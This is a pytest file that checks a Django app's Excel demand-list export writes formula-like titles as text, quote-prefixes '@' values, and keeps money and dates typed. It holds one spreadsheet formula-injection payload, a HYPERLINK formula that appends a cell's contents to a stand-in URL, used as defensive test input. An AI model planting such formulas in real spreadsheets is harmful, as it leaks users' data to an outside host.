"""The demand list export writes a formula-like title as text and keeps money and dates typed."""

import datetime as dt
import io

from openpyxl import load_workbook

from kechuang.matching import services

from .conftest import demand_data

EVIL = '=HYPERLINK("http://x?d="&A3,"查看")'


def test_demand_export_writes_a_formula_title_as_text(client, city, django_capture_on_commit_callbacks):
    with django_capture_on_commit_callbacks(execute=True):
        services.post_demand(city["users"]["enterprise"], demand_data(title=EVIL, contact_name="@admin"))
    client.force_login(city["users"]["staff"])
    response = client.get("/matching/demands/export.xlsx")
    header, row = list(load_workbook(io.BytesIO(response.content)).active.iter_rows())
    by = {h.value: c for h, c in zip(header, row, strict=True)}
    assert by["需求名称"].value == EVIL and by["需求名称"].data_type == "s"
    assert by["联系人"].value == "@admin" and by["联系人"].quotePrefix
    assert by["预算（万元）"].value == 300 and by["预算（万元）"].number_format == "#,##0.00"
    assert by["期望解决时间"].value == dt.datetime(2030, 6, 30) and by["期望解决时间"].is_date
